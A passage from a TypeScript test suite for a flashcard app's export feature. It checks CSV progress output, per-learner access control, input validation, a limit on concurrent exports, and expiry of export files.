    await writeCsv(join(dir, 'progress.csv'), job, context(record));
    expect(mostAtOnce).toBe(1);
    expect(reported[0]).toBe(500);
    expect(reported).toEqual([...reported].sort((a, b) => a - b));
    expect((await readFile(join(dir, 'progress.csv'), 'utf8')).trim().split('\r\n')).toHaveLength(1 + 1_001);

    // Found at the next page, or after the last one (a learner with one card: one page).
    const bob = learner('bob');
    await cards.as(bob).createCards({ cards: [{ front: 'one', back: '1' }], idempotencyKey: randomUUID() });
    const lost = () => Promise.reject(new Error('the exports table is gone'));
    for (const ownerId of [ann, bob]) {
      const failed = join(dir, `progress-failed-${ownerId}.csv`);
      await expect(writeCsv(failed, { ...job, ownerId }, context(lost))).rejects.toThrow('the exports table is gone');
      await expect(readFile(failed)).rejects.toThrow(/ENOENT/);
    }
  });
});

describe('an export', () => {
  it("is another learner's to neither see nor aim at their tags", async () => {
    const ann = learner('ann');
    const bob = learner('bob');
    const tag = (await cards.as(ann).createTag({ name: 'private' })).tag!;
    await expect(cards.as(bob).startExport({ format: 'csv', tagIds: [tag.id] })).rejects.toThrow('Tag not found.');
    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
    await expect(cards.as(bob).getExport({ exportId })).rejects.toThrow('Export not found.');
    expect((await cards.as(bob).listExports({})).items).toEqual([]);
    expect((await cards.as(ann).listExports({})).items.map((item) => item.id)).toEqual([exportId]);
  });

  it('is refused, changing nothing, for a format it does not know, tags on a full export, or a part not JSON', async () => {
    const ann = learner('ann');
    const tag = (await cards.as(ann).createTag({ name: 'some' })).tag!;
    await expect(cards.as(ann).startExport({ format: 'pdf' })).rejects.toThrow('The format must be apkg, csv or json.');
    await expect(cards.as(ann).startExport({ format: 'json', tagIds: [tag.id] })).rejects.toThrow(
      'A full export holds everything; choose tags for a CSV or Anki export.',
    );
    await expect(cards.as(ann).startExport({ format: 'json', parts: { identity: '{not json' } })).rejects.toThrow(
      'The identity part of the export is not JSON.',
    );
    await expect(cards.as(ann).startExport({ format: 'json', parts: { secrets: '{}' } })).rejects.toThrow(
      'An export part must come from identity, organizations, billing or ai.',
    );
    expect((await cards.as(ann).listExports({})).items).toEqual([]);
  });

  it('is refused, changing nothing, while the learner has two exports queued or running, and taken once one is over', async () => {
    const ann = learner('ann');
    await cards.create(ann, 'one card');
    // Exports another replica makes (their heartbeat fresh): nobody takes them over meanwhile.
    const making = await Promise.all(
      [1, 2].map(() =>
        cards.db.export.create({
          data: { ownerId: ann, format: 'csv', fileName: 'cards.csv', status: 'running', heartbeatAt: new Date() },
        }),
      ),
    );
    const refused = await cards
      .as(ann)
      .startExport({ format: 'json' })
      .then(
        () => undefined,
        (error: { code: number; reason?: string; message: string }) => error,
      );
    expect(refused).toMatchObject({
      code: status.FAILED_PRECONDITION,
      reason: 'EXPORTS_BUSY',
      message:
        'You already have 2 exports waiting or being made. Wait until one of them is ready, then start this one.',
    });
    expect((await cards.as(ann).listExports({})).items).toHaveLength(2);
    // Another learner's exports are theirs alone.
    const bob = learner('bob');
    expect((await finished(bob, (await cards.as(bob).startExport({ format: 'csv' })).exportId)).status).toBe('done');
    await cards.db.export.update({ where: { id: making[0]!.id }, data: { status: 'failed' } });
    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
    // Taken; a learner's exports are made one at a time, so it is made once the other is over.
    expect((await cards.as(ann).getExport({ exportId })).status).toBe('queued');
    await cards.db.export.update({ where: { id: making[1]!.id }, data: { status: 'done' } });
    expect((await finished(ann, exportId)).status).toBe('done');
  });

  it('expires: its link stops being offered and its file leaves the store', async () => {
    const ann = learner('ann');
    await cards.create(ann, 'soon gone');
    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
    const done = await finished(ann, exportId);
    const row = await cards.db.export.findUniqueOrThrow({ where: { id: exportId } });
    await cards.db.export.update({ where: { id: exportId }, data: { expiresAt: new Date(Date.now() - 1_000) } });
    expect(await cards.as(ann).getExport({ exportId })).toMatchObject({ status: 'expired', url: '' });
    await sweepObjects(cards.db, cards.store);
    expect(await cards.store.headObject(row.objectKey!)).toBeNull();
    expect((await fetch(done.url)).status).toBe(404);
  });
});
